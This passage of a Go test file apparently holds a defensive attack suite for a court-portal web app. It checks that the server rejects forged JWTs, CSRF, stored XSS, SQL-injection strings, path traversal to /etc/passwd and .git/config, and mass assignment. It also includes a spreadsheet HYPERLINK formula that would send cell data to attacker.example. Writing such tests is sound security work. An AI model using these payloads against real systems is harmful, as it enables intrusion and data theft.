package handlers_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/labstack/echo/v4"

	"netcourt/models"
	tk "netcourt/models/testkit"
)

// The attack suite: hostile requests against a real server listening on 127.0.0.1, as an
// attacker on the network would send them. Every case is a subtest; the total is logged.

// attackCount counts the attack cases run in this package.
var attackCount atomic.Int64

// atkServer is the real router behind a real TCP listener.
type atkServer struct {
	f   *tk.Fixture
	e   *echo.Echo
	url string
	c   *http.Client
}

func newAtkServer(t *testing.T) *atkServer {
	t.Helper()
	f := tk.NewStore(t)
	e := tk.NewServer(t, f)
	srv := httptest.NewServer(e)
	t.Cleanup(srv.Close)
	c := &http.Client{Timeout: 20 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	return &atkServer{f: f, e: e, url: srv.URL, c: c}
}

// req sends one request; body may be nil, []byte or a string.
func (s *atkServer) req(t *testing.T, method, path string, body []byte, hdr map[string]string, cookies ...*http.Cookie) (int, string, http.Header) {
	t.Helper()
	var r io.Reader
	if body != nil {
		r = bytes.NewReader(body)
	}
	rq, err := http.NewRequest(method, s.url+path, r)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range hdr {
		rq.Header.Set(k, v)
	}
	for _, c := range cookies {
		rq.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value})
	}
	resp, err := s.c.Do(rq)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return resp.StatusCode, string(b), resp.Header
}

// raw writes a request line and headers exactly as given (no client-side path cleaning) and
// returns the status and body.
func (s *atkServer) raw(t *testing.T, requestTarget string, extra string) (int, string) {
	t.Helper()
	u, _ := url.Parse(s.url)
	conn, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n", requestTarget, u.Host, extra)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("GET %s: %v", requestTarget, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(b)
}

func attack(t *testing.T, name string, fn func(t *testing.T)) {
	t.Helper()
	attackCount.Add(1)
	t.Run(name, fn)
}

func logAttacks(t *testing.T, before int64) {
	t.Logf("%d attack cases", attackCount.Load()-before)
}

// --- tokens ---

func signedWith(t *testing.T, method jwt.SigningMethod, key any, c jwt.MapClaims) string {
	t.Helper()
	s, err := jwt.NewWithClaims(method, c).SignedString(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestAttackTokens(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	s := newAtkServer(t)
	u := s.f.Plaintiff(t)
	good := tk.LoginAPI(t, s.e, u.Email, tk.Password)
	var payload struct {
		SID string `json:"sid"`
	}
	parts := strings.Split(good, ".")
	pb, _ := base64.RawURLEncoding.DecodeString(parts[1])
	_ = json.Unmarshal(pb, &payload)
	key, err := s.f.Store.SigningKey(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	now := s.f.Clock.Now()
	claims := func(mod func(jwt.MapClaims)) jwt.MapClaims {
		c := jwt.MapClaims{"sid": payload.SID, "iss": "netcourt", "aud": []string{"netcourt-portal"}, "sub": fmt.Sprint(u.ID),
			"iat": now.Unix(), "nbf": now.Add(-time.Minute).Unix(), "exp": now.Add(time.Hour).Unix()}
		if mod != nil {
			mod(c)
		}
		return c
	}
	// The right key and claims work, so each refusal below is for the one thing changed.
	if st, _, _ := s.req(t, "GET", "/api/v1/me", nil, map[string]string{"Authorization": "Bearer " + signedWith(t, jwt.SigningMethodHS256, key, claims(nil))}); st != 200 {
		t.Fatalf("control token refused: %d", st)
	}
	noneTok := func(c jwt.MapClaims) string {
		h := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`))
		b, _ := json.Marshal(c)
		return h + "." + base64.RawURLEncoding.EncodeToString(b) + "."
	}
	tokens := map[string]string{
		"garbage":   "not-a-token",
		"wrong key": signedWith(t, jwt.SigningMethodHS256, []byte("0123456789abcdef0123456789abcdef"), claims(nil)),
		"alg none":  noneTok(claims(nil)),
		"alg NONE unsigned": strings.Replace(noneTok(claims(nil)), base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`)),
			base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"NONE","typ":"JWT"}`)), 1),
		"HS512 right key":  signedWith(t, jwt.SigningMethodHS512, key, claims(nil)),
		"expired":          signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["exp"] = now.Add(-time.Hour).Unix() })),
		"no expiry":        signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { delete(c, "exp") })),
		"wrong audience":   signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["aud"] = []string{"another-app"} })),
		"no audience":      signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { delete(c, "aud") })),
		"wrong issuer":     signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["iss"] = "evil" })),
		"not yet valid":    signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["nbf"] = now.Add(time.Hour).Unix() })),
		"issued in future": signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["iat"] = now.Add(time.Hour).Unix() })),
		"unknown session":  signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["sid"] = "no-such-session" })),
		"no session":       signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { delete(c, "sid") })),
		"other user's sub": signedWith(t, jwt.SigningMethodHS256, key, claims(func(c jwt.MapClaims) { c["sub"] = "999999" })),
		"signature cut":    good[:strings.LastIndexByte(good, '.')+1],
		"tampered payload": parts[0] + "." + base64.RawURLEncoding.EncodeToString(bytes.Replace(pb, []byte(payload.SID), []byte(strings.Repeat("A", len(payload.SID))), 1)) + "." + parts[2],
		"10 KB of dots":    strings.Repeat(".", 10<<10),
		"900 KB of dots":   strings.Repeat(".", 900<<10),
	}
	for name, tok := range tokens {
		attack(t, "token "+name, func(t *testing.T) {
			start := time.Now()
			st, body, _ := s.req(t, "GET", "/api/v1/me", nil, map[string]string{"Authorization": "Bearer " + tok})
			if name == "other user's sub" {
				// The session decides who the caller is, not the subject claim.
				if st != 200 || !strings.Contains(body, u.Email) {
					t.Fatalf("status %d body %.200s", st, body)
				}
				return
			}
			if st != http.StatusUnauthorized {
				t.Fatalf("status %d, want 401: %.200s", st, body)
			}
			t.Logf("refused in %v", time.Since(start).Round(time.Microsecond))
		})
	}
	attack(t, "1 MB header of dots", func(t *testing.T) {
		st, _, _ := s.req(t, "GET", "/api/v1/me", nil, map[string]string{"Authorization": "Bearer " + strings.Repeat(".", 1<<20)})
		if st != http.StatusUnauthorized && st != http.StatusRequestHeaderFieldsTooLarge {
			t.Fatalf("status %d, want 401 or 431", st)
		}
	})
	attack(t, "forged session cookie on a page", func(t *testing.T) {
		st, _, _ := s.req(t, "GET", "/account", nil, nil, &http.Cookie{Name: "nc_session", Value: tokens["alg none"]})
		if st != http.StatusSeeOther {
			t.Fatalf("status %d, want a redirect to sign in", st)
		}
	})
	attack(t, "token after logout", func(t *testing.T) {
		tok := tk.LoginAPI(t, s.e, u.Email, tk.Password)
		if st, _, _ := s.req(t, "POST", "/api/v1/auth/logout", nil, map[string]string{"Authorization": "Bearer " + tok}); st != 204 {
			t.Fatalf("logout %d", st)
		}
		if st, _, _ := s.req(t, "GET", "/api/v1/me", nil, map[string]string{"Authorization": "Bearer " + tok}); st != 401 {
			t.Fatalf("revoked token: %d", st)
		}
	})
}

// --- CSRF ---

func TestAttackCSRF(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	s := newAtkServer(t)
	u := s.f.Plaintiff(t)
	var session []*http.Cookie // the session cookie alone
	for _, c := range tk.LoginPage(t, s.e, u.Email, tk.Password) {
		if c.Name == "nc_session" {
			session = append(session, c)
		}
	}
	tok, pageCookies := tk.FormToken(t, s.e, "/account", tk.Cookie(session...))
	jar := append(append([]*http.Cookie{}, session...), pageCookies...)
	form := func(v url.Values) []byte { return []byte(v.Encode()) }
	ct := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	with := func(extra map[string]string) map[string]string {
		h := map[string]string{}
		for k, v := range ct {
			h[k] = v
		}
		for k, v := range extra {
			h[k] = v
		}
		return h
	}
	targets := []string{"/logout", "/inbox/read", "/register", "/login"}
	for _, path := range targets {
		attack(t, "no token "+path, func(t *testing.T) {
			if st, _, _ := s.req(t, "POST", path, form(url.Values{}), with(nil), jar...); st != http.StatusForbidden {
				t.Fatalf("status %d, want 403", st)
			}
		})
		attack(t, "wrong token "+path, func(t *testing.T) {
			if st, _, _ := s.req(t, "POST", path, form(url.Values{"_csrf": {"forged-token-value"}}), with(nil), jar...); st != http.StatusForbidden {
				t.Fatalf("status %d, want 403", st)
			}
		})
		attack(t, "token without its cookie "+path, func(t *testing.T) {
			if st, _, _ := s.req(t, "POST", path, form(url.Values{"_csrf": {tok}}), with(nil), session...); st != http.StatusForbidden {
				t.Fatalf("status %d, want 403", st)
			}
		})
		attack(t, "cross-site with a stolen token "+path, func(t *testing.T) {
			h := with(map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "https://attacker.example"})
			if st, _, _ := s.req(t, "POST", path, form(url.Values{"_csrf": {tok}}), h, jar...); st != http.StatusForbidden {
				t.Fatalf("status %d, want 403", st)
			}
		})
	}
	attack(t, "same-site form with the right token works", func(t *testing.T) {
		h := with(map[string]string{"Sec-Fetch-Site": "same-origin"})
		if st, _, _ := s.req(t, "POST", "/inbox/read", form(url.Values{"_csrf": {tok}}), h, jar...); st != http.StatusSeeOther {
			t.Fatalf("status %d, want 303", st)
		}
	})
	attack(t, "no state change over GET", func(t *testing.T) {
		if st, _, _ := s.req(t, "GET", "/logout", nil, nil, jar...); st != http.StatusNotFound && st != http.StatusMethodNotAllowed {
			t.Fatalf("GET /logout: %d", st)
		}
		if st, _, _ := s.req(t, "GET", "/account", nil, nil, jar...); st != 200 {
			t.Fatalf("session ended by a GET: %d", st)
		}
	})
	attack(t, "cookie does not authorise the API", func(t *testing.T) {
		if st, _, _ := s.req(t, "POST", "/api/v1/notifications/read", []byte(`{}`), map[string]string{"Content-Type": "application/json"}, jar...); st != http.StatusUnauthorized {
			t.Fatalf("status %d, want 401", st)
		}
	})
}

// --- stored XSS ---

// xssPayloads are stored in every text field and must come back escaped everywhere.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`{{7*7}}`,
	`<svg/onload=alert(1)>`,
	`'-alert(1)-'`,
}

// xssMarker carries every payload in one string so one field holds them all.
func xssText(prefix string) string { return prefix + " " + strings.Join(xssPayloads, " ") }

// hostileWorld is a case at each stage whose every text field holds the payloads.
type hostileWorld struct {
	*atkServer
	users   map[string]*models.User
	cookies map[string][]*http.Cookie
	tokens  map[string]string
	cases   []int64
}

func newHostileWorld(t *testing.T) *hostileWorld {
	t.Helper()
	s := newAtkServer(t)
	ctx := context.Background()
	w := &hostileWorld{atkServer: s, users: map[string]*models.User{}, cookies: map[string][]*http.Cookie{}, tokens: map[string]string{}}
	// A plaintiff registers through the API with a hostile name.
	rec := tk.Do(t, s.e, "POST", "/api/v1/auth/register", map[string]string{"name": `Mallory {{7*7}} <script>alert(1)</script>"><img src=x onerror=alert(1)>`, "email": "mallory@example.test",
		"phone": "13800138000", "password": tk.Password})
	if rec.Code != http.StatusCreated {
		t.Fatalf("register hostile name: %d %s", rec.Code, rec.Body.String())
	}
	p, err := s.f.Store.Authenticate(ctx, "mallory@example.test", tk.Password, "192.0.2.9")
	if err != nil {
		t.Fatal(err)
	}
	w.users["plaintiff"] = p
	w.users["clerk"], w.users["judge"], w.users["defendant"], w.users["admin"] = s.f.Clerk(t), s.f.Judge(t), s.f.Defendant(t), s.f.Admin(t)
	in := completeComplaint()
	in.Defendant.Name = azStr(xssText("Evil Co"))
	// A spreadsheet formula where a CSV export will put it first in its cell.
	in.Defendant.Platform = azStr(`=HYPERLINK("https://attacker.example/?"&A1,"open") ` + xssText("App"))
	in.Defendant.Address = azStr(xssText("Road"))
	in.Facts = azStr(xssText("Facts"))
	in.PlaintiffAddress = azStr(xssText("Home"))
	build := func(state models.Status) int64 {
		return buildCase(t, s.f, p, w.users["clerk"], w.users["judge"], w.users["defendant"], state, in)
	}
	// Evidence with hostile title, description and file name, and actions with hostile text.
	draft := build(models.StatusDraft)
	if _, err := s.f.Store.AddEvidence(ctx, p, draft, models.EvidenceInput{Title: xssText("Title"), Description: xssText("Desc"),
		FileName: `"><img src=x onerror=alert(1)>.txt`, Body: strings.NewReader("plain text evidence"), MaxBytes: 1 << 20}); err != nil {
		t.Fatal(err)
	}
	amend := build(models.StatusSubmitted)
	w.act(t, "clerk", amend, "request-amendment", map[string]any{"reason": xssText("Reason")})
	rejected := build(models.StatusSubmitted)
	w.act(t, "clerk", rejected, "reject", map[string]any{"reason": xssText("Rejected")})
	decided := build(models.StatusServed)
	w.act(t, "defendant", decided, "answer", map[string]any{"text": xssText("Answer")})
	w.act(t, "clerk", decided, "schedule-hearing", map[string]any{"at": s.f.Clock.Now().Add(240 * time.Hour).Format(time.RFC3339), "mode": "in_person", "location": xssText("Room")})
	w.act(t, "judge", decided, "record-hearing", map[string]any{"minutes": xssText("Minutes")})
	w.act(t, "judge", decided, "rule", map[string]any{"outcome": "upheld", "findings": []string{"forced_consent"},
		"orders": map[string]any{"apology": true, "compensation": "1.00"}, "reasoning": xssText("Reasoning")})
	w.act(t, "judge", decided, "publish", map[string]any{})
	settled := build(models.StatusAnswered)
	w.act(t, "judge", settled, "settle", map[string]any{"terms": xssText("Terms")})
	withdrawn := build(models.StatusSubmitted)
	w.act(t, "plaintiff", withdrawn, "withdraw", map[string]any{"reason": xssText("Withdraw")})
	w.cases = []int64{draft, amend, rejected, decided, settled, withdrawn}
	return w
}

func (w *hostileWorld) login(t *testing.T, role string) {
	if w.tokens[role] == "" {
		w.tokens[role] = tk.LoginAPI(t, w.e, w.users[role].Email, tk.Password)
		w.cookies[role] = tk.LoginPage(t, w.e, w.users[role].Email, tk.Password)
	}
}

func (w *hostileWorld) act(t *testing.T, role string, id int64, action string, body map[string]any) {
	t.Helper()
	w.login(t, role)
	rec := tk.Do(t, w.e, "POST", fmt.Sprintf("/api/v1/cases/%d/%s", id, action), body, tk.Bearer(w.tokens[role]))
	if rec.Code != http.StatusOK {
		t.Fatalf("%s %s: %d %s", role, action, rec.Code, rec.Body.String())
	}
}

// getRoutes lists the router's GET routes as concrete paths for the given case and
// evidence ids; routes with other parameters are skipped (and counted).
func getRoutes(e *echo.Echo, caseID, evidenceID int64) []string {
	var out []string
	seen := map[string]bool{}
	param := regexp.MustCompile(`:[a-z_]+`)
	for _, r := range e.Routes() {
		if r.Method != http.MethodGet || strings.HasSuffix(r.Path, "*") || strings.HasSuffix(r.Path, "/file") {
			continue
		}
		p := param.ReplaceAllStringFunc(r.Path, func(n string) string {
			switch n {
			case ":id":
				return fmt.Sprint(caseID)
			case ":eid":
				return fmt.Sprint(evidenceID)
			}
			return n
		})
		if strings.Contains(p, ":") || seen[p] {
			continue
		}
		seen[p] = true
		out = append(out, p)
	}
	return out
}

// escapedEverywhere fails if a raw payload appears in a reply. A CSV export is not HTML:
// there the text stays as typed, but no cell may start a spreadsheet formula.
func escapedEverywhere(t *testing.T, where, contentType, body string) {
	t.Helper()
	if strings.HasPrefix(contentType, "text/csv") {
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Errorf("%s: unreadable CSV: %v", where, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: CSV cell %.60q starts a formula", where, cell)
				}
			}
		}
		return
	}
	for _, p := range xssPayloads {
		if strings.Contains(p, "<") || strings.Contains(p, `"`) {
			if strings.Contains(body, p) {
				t.Errorf("%s: payload %q appears unescaped", where, p)
			}
		}
	}
	// Where the hostile text is shown at all, the template payload is shown as typed: no
	// server-side template ever evaluates user text.
	if strings.Contains(body, "alert(1)") && !strings.Contains(body, "{{7*7}}") {
		t.Errorf("%s: {{7*7}} was not shown as typed", where)
	}
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}

func TestAttackStoredXSS(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	w := newHostileWorld(t)
	pages := 0
	for _, role := range []string{"plaintiff", "clerk", "judge", "defendant", "admin", "anonymous"} {
		if role != "anonymous" {
			w.login(t, role)
		}
		for _, id := range w.cases {
			evs, _ := w.f.Store.EvidenceList(context.Background(), id)
			var eid int64
			if len(evs) > 0 {
				eid = evs[0].ID
			}
			for _, path := range getRoutes(w.e, id, eid) {
				var opts []tk.ReqOpt
				if strings.HasPrefix(path, "/api/") {
					if role != "anonymous" {
						opts = append(opts, tk.Bearer(w.tokens[role]))
					}
				} else {
					opts = append(opts, tk.Cookie(w.cookies[role]...))
				}
				for _, lang := range []string{"en", "zh"} {
					sep := "?"
					if strings.Contains(path, "?") {
						sep = "&"
					}
					rec := tk.Do(t, w.e, "GET", path+sep+"lang="+lang, nil, opts...)
					if rec.Code >= 500 {
						t.Errorf("%s as %s: status %d", path, role, rec.Code)
					}
					escapedEverywhere(t, fmt.Sprintf("GET %s as %s (%d)", path, role, rec.Code), rec.Header().Get("Content-Type"), rec.Body.String())
					// Pages are HTML, the API JSON; anything else (an evidence file, the
					// statistics CSV) must be a type no browser runs, with sniffing off.
					ct := rec.Header().Get("Content-Type")
					if rec.Code == 200 && !strings.Contains(ct, "html") && !strings.Contains(ct, "json") {
						if strings.Contains(ct, "svg") || strings.Contains(ct, "xml") || strings.Contains(ct, "javascript") ||
							rec.Header().Get("X-Content-Type-Options") != "nosniff" {
							t.Errorf("%s: content type %q, nosniff %q", path, ct, rec.Header().Get("X-Content-Type-Options"))
						}
					}
					pages++
				}
			}
		}
	}
	attackCount.Add(int64(pages))
	t.Logf("%d page/API reads checked for %d payloads each", pages, len(xssPayloads))
	// The payloads were stored as typed (escaping happens on output, not by mangling input).
	c, err := w.f.Store.CaseFor(context.Background(), w.users["plaintiff"], w.cases[0])
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(c.Facts, `<script>alert(1)</script>`) {
		t.Errorf("facts were altered on input: %q", c.Facts)
	}
}

// --- SQL-ish input in every query parameter ---

var sqlish = []string{`' OR 1=1--`, `status; DROP TABLE cases`, `1) UNION SELECT password_hash FROM users--`, `%27`, `\x00`, `"`, `-1`, `99999999999999999999999`}

var queryParams = []string{"sort", "status", "q", "judge_id", "sector", "category", "cursor", "limit", "order", "dir", "info_type", "outcome", "page"}

func TestAttackSQLishQueries(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	w := newHostileWorld(t)
	count := func() (int64, int64, int64) {
		var c, u, e int64
		w.f.DB.Model(&models.Case{}).Count(&c)
		w.f.DB.Model(&models.User{}).Count(&u)
		w.f.DB.Table("case_events").Count(&e)
		return c, u, e
	}
	c0, u0, e0 := count()
	for _, role := range []string{"plaintiff", "clerk", "judge", "anonymous"} {
		if role != "anonymous" {
			w.login(t, role)
		}
		for _, path := range getRoutes(w.e, w.cases[3], 0) {
			for _, v := range sqlish {
				q := url.Values{}
				for _, p := range queryParams {
					q.Set(p, v)
				}
				var opts []tk.ReqOpt
				if strings.HasPrefix(path, "/api/") {
					if role != "anonymous" {
						opts = append(opts, tk.Bearer(w.tokens[role]))
					}
				} else {
					opts = append(opts, tk.Cookie(w.cookies[role]...))
				}
				attackCount.Add(1)
				rec := tk.Do(t, w.e, "GET", path+"?"+q.Encode(), nil, opts...)
				if rec.Code >= 500 {
					t.Errorf("GET %s?%s as %s: status %d", path, q.Encode(), role, rec.Code)
				}
				if strings.Contains(rec.Body.String(), "$2a$") || strings.Contains(strings.ToLower(rec.Body.String()), "syntax error") {
					t.Errorf("GET %s as %s: database detail in the reply", path, role)
				}
			}
		}
	}
	if c, u, e := count(); c != c0 || u != u0 || e != e0 {
		t.Fatalf("rows changed: cases %d→%d users %d→%d events %d→%d", c0, c, u0, u, e0, e)
	}
}

// --- path traversal ---

func TestAttackPathTraversal(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	w := newHostileWorld(t)
	w.login(t, "plaintiff")
	id := w.cases[0]
	paths := []string{
		"/static/../../go.mod", "/static/%2e%2e/", "/static/%2e%2e/%2e%2e/go.mod", "/static/..%2f..%2fgo.mod",
		"/static/css/../../../go.mod", "/static//etc/passwd", "/static/..\\..\\go.mod", "/static/%2e%2e%5c%2e%2e%5cgo.mod",
		"/static/css%2f..%2f..%2f..%2fgo.mod", "/static/%252e%252e/go.mod", "/static/embed.go", "/static/./css/../../go.mod",
		"/../go.mod", "/%2e%2e/go.mod", "/templates/layout/base.html", "/.git/config", "/data/netcourt.db",
		fmt.Sprintf("/api/v1/cases/%d/evidence/..%%2F..%%2Fetc%%2Fpasswd/file", id),
		fmt.Sprintf("/api/v1/cases/%d/evidence/../../../../etc/passwd/file", id),
		fmt.Sprintf("/api/v1/cases/%d/evidence/%%2e%%2e/file", id),
		fmt.Sprintf("/api/v1/cases/%d/evidence/1/file/..%%2F..%%2F..%%2Fgo.mod", id),
	}
	secrets := []string{"module netcourt", "root:x:0", "package static", "[core]", "SQLite format", "{{define"}
	for _, p := range paths {
		attack(t, "traversal "+p, func(t *testing.T) {
			extra := "Authorization: Bearer " + w.tokens["plaintiff"] + "\r\n"
			st, body := w.raw(t, p, extra)
			for _, s := range secrets {
				if strings.Contains(body, s) {
					t.Fatalf("status %d: reply holds %q", st, s)
				}
			}
			if st != http.StatusNotFound && st != http.StatusBadRequest && st != http.StatusMovedPermanently && st != http.StatusSeeOther {
				t.Fatalf("status %d, want 404 (or 400 / a redirect)", st)
			}
		})
	}
}

// --- mass assignment ---

func TestAttackMassAssignment(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	s := newAtkServer(t)
	ctx := context.Background()
	attack(t, "register as admin", func(t *testing.T) {
		rec := tk.Do(t, s.e, "POST", "/api/v1/auth/register", map[string]any{"name": "Eve", "email": "eve@example.test", "phone": "13800138000",
			"password": tk.Password, "role": "admin", "id": 1, "disabled": false, "created_at": "2000-01-01T00:00:00Z", "password_hash": "x"})
		if rec.Code != http.StatusCreated {
			t.Fatalf("status %d %s", rec.Code, rec.Body.String())
		}
		u, err := s.f.Store.Authenticate(ctx, "eve@example.test", tk.Password, "192.0.2.8")
		if err != nil || u.Role != models.RolePlaintiff || u.CreatedAt.Year() == 2000 {
			t.Fatalf("account %+v, %v", u, err)
		}
	})
	p, clerk, judge, judge2, def := s.f.Plaintiff(t), s.f.Clerk(t), s.f.Judge(t), s.f.Judge(t), s.f.Defendant(t)
	other := s.f.Plaintiff(t)
	ptok := tk.LoginAPI(t, s.e, p.Email, tk.Password)
	ctok := tk.LoginAPI(t, s.e, clerk.Email, tk.Password)
	extra := map[string]any{"status": "decided", "judge_id": judge2.ID, "plaintiff_id": other.ID, "defendant_user_id": def.ID,
		"role": "judge", "docket_no": "(2026)京0491民初999号", "reference": "NC-0000-000000", "fee_total_fen": 0, "id": 999}
	attack(t, "request-amendment with case fields", func(t *testing.T) {
		id := buildCase(t, s.f, p, clerk, judge, def, models.StatusSubmitted, completeComplaint())
		body := map[string]any{"reason": "Add the screenshots."}
		for k, v := range extra {
			body[k] = v
		}
		rec := tk.Do(t, s.e, "POST", fmt.Sprintf("/api/v1/cases/%d/request-amendment", id), body, tk.Bearer(ctok))
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d %s", rec.Code, rec.Body.String())
		}
		c, err := s.f.Store.CaseFor(ctx, p, id)
		if err != nil {
			t.Fatal(err)
		}
		if c.Status != models.StatusAmendmentRequested || c.JudgeID != nil || c.PlaintiffID != p.ID || c.DefendantUserID != nil || c.DocketNo != nil {
			t.Fatalf("case changed beyond the action: %+v", c)
		}
	})
	attack(t, "submit with case fields", func(t *testing.T) {
		id := buildCase(t, s.f, p, clerk, judge, def, models.StatusDraft, completeComplaint())
		rec := tk.Do(t, s.e, "POST", fmt.Sprintf("/api/v1/cases/%d/submit", id), extra, tk.Bearer(ptok))
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d %s", rec.Code, rec.Body.String())
		}
		c, _ := s.f.Store.CaseFor(ctx, p, id)
		if c.Status != models.StatusSubmitted || c.JudgeID != nil || c.PlaintiffID != p.ID || c.FeeTotalFen == 0 || *c.Reference == "NC-0000-000000" {
			t.Fatalf("case changed beyond the action: %+v", c)
		}
	})
	attack(t, "accept names the judge, nothing else", func(t *testing.T) {
		id := buildCase(t, s.f, p, clerk, judge, def, models.StatusSubmitted, completeComplaint())
		body := map[string]any{"procedure": "simplified", "judge_id": judge.ID, "status": "decided", "plaintiff_id": other.ID, "docket_no": "x"}
		rec := tk.Do(t, s.e, "POST", fmt.Sprintf("/api/v1/cases/%d/accept", id), body, tk.Bearer(ctok))
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d %s", rec.Code, rec.Body.String())
		}
		c, _ := s.f.Store.CaseFor(ctx, p, id)
		if c.Status != models.StatusAccepted || c.PlaintiffID != p.ID || c.DocketNo == nil || *c.DocketNo == "x" {
			t.Fatalf("case changed beyond the action: %+v", c)
		}
	})
	attack(t, "accept with a non-judge as judge", func(t *testing.T) {
		id := buildCase(t, s.f, p, clerk, judge, def, models.StatusSubmitted, completeComplaint())
		rec := tk.Do(t, s.e, "POST", fmt.Sprintf("/api/v1/cases/%d/accept", id), map[string]any{"procedure": "simplified", "judge_id": other.ID}, tk.Bearer(ctok))
		if rec.Code != http.StatusUnprocessableEntity {
			t.Fatalf("status %d, want 422: %s", rec.Code, rec.Body.String())
		}
	})
	attack(t, "notifications of another user", func(t *testing.T) {
		id := buildCase(t, s.f, other, clerk, judge, def, models.StatusSubmitted, completeComplaint())
		_, _, _ = s.f.Store.Advance(ctx, clerk, id, models.ActRequestAmendment, models.ActionInput{Reason: "more"})
		ns, _ := s.f.Store.Notifications(ctx, other.ID, 0, 10)
		if len(ns) == 0 {
			t.Fatal("no notification to test with")
		}
		rec := tk.Do(t, s.e, "POST", "/api/v1/notifications/read", map[string]any{"ids": []int64{ns[0].ID}, "user_id": other.ID}, tk.Bearer(ptok))
		if rec.Code != http.StatusNoContent {
			t.Fatalf("status %d", rec.Code)
		}
		if n, _ := s.f.Store.UnreadNotifications(ctx, other.ID); n == 0 {
			t.Fatal("another user's notification was marked read")
		}
	})
}

// --- bodies: oversize, malformed, many parts ---

func atkMultipart(t *testing.T, parts int, fields map[string]string) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, v := range fields {
		_ = mw.WriteField(k, v)
	}
	for i := 0; i < parts; i++ {
		_ = mw.WriteField(fmt.Sprintf("f%d", i), "x")
	}
	_ = mw.Close()
	return buf.Bytes(), mw.FormDataContentType()
}

func TestAttackBodies(t *testing.T) {
	before := attackCount.Load()
	defer logAttacks(t, before)
	s := newAtkServer(t)
	p := s.f.Plaintiff(t)
	ptok := tk.LoginAPI(t, s.e, p.Email, tk.Password)
	id := buildCase(t, s.f, p, s.f.Clerk(t), s.f.Judge(t), s.f.Defendant(t), models.StatusSubmitted, completeComplaint())
	session := tk.LoginPage(t, s.e, p.Email, tk.Password)
	csrf := []*http.Cookie{{Name: "nc_csrf", Value: "attack-csrf"}}
	pageHdr := func(ct string) map[string]string {
		return map[string]string{"Content-Type": ct, "X-CSRF-Token": "attack-csrf", "Sec-Fetch-Site": "same-origin"}
	}
	bearer := func(ct string) map[string]string {
		return map[string]string{"Content-Type": ct, "Authorization": "Bearer " + ptok}
	}
	big := []byte(`{"reason":"` + strings.Repeat("a", 2<<20) + `"}`)
	type bodyCase struct {
		name   string
		method string
		path   string
		body   []byte
		hdr    map[string]string
		page   bool
		want   []int
	}
	mp2000, mpCT := atkMultipart(t, 2000, nil)
	mpBad := []byte("--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nunterminated")
	cases := []bodyCase{
		{"2 MB JSON to an action", "POST", fmt.Sprintf("/api/v1/cases/%d/withdraw", id), big, bearer("application/json"), false, []int{413}},
		{"2 MB JSON to register", "POST", "/api/v1/auth/register", big, map[string]string{"Content-Type": "application/json"}, false, []int{413}},
		{"2 MB JSON to login", "POST", "/api/v1/auth/login", big, map[string]string{"Content-Type": "application/json"}, false, []int{413}},
		{"2 MB form to a page", "POST", "/register", []byte("name=" + strings.Repeat("a", 2<<20)), pageHdr("application/x-www-form-urlencoded"), true, []int{413}},
		{"malformed JSON", "POST", fmt.Sprintf("/api/v1/cases/%d/withdraw", id), []byte(`{"reason":`), bearer("application/json"), false, []int{400}},
		{"two JSON objects", "POST", fmt.Sprintf("/api/v1/cases/%d/withdraw", id), []byte(`{"reason":"a"}{"reason":"b"}`), bearer("application/json"), false, []int{400}},
